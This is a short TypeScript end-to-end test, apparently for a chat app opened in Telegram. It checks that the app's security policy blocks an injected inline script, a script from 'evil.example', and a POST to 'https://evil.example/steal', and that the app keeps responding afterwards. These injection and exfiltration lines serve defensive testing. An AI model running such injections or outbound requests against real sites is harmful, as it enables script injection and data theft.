import { ask, openNewChat } from './support/app.ts'
import { expect, test } from './support/test.ts'

test('an inline script, a foreign one and a foreign address are refused in the app, which goes on', async ({ openInTelegram, refused }) => {
  const host = await openInTelegram()
  await openNewChat(host)
  await ask(host, 'Hello')
  expect(refused).toEqual([])
  const ran = await host.app.locator('html').evaluate(async (html) => {
    const inline = document.createElement('script')
    inline.textContent = 'document.documentElement.dataset.ran = "inline"'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    document.head.append(inline, foreign)
    const answer = await fetch('https://evil.example/steal', { method: 'POST' }).then(() => 'sent', () => 'refused')
    return [html.dataset['ran'], answer]
  })
  expect(ran).toEqual([undefined, 'refused'])
  await expect.poll(() => refused.length).toBeGreaterThanOrEqual(3)
  refused.length = 0
  await ask(host, 'Still there?')
})
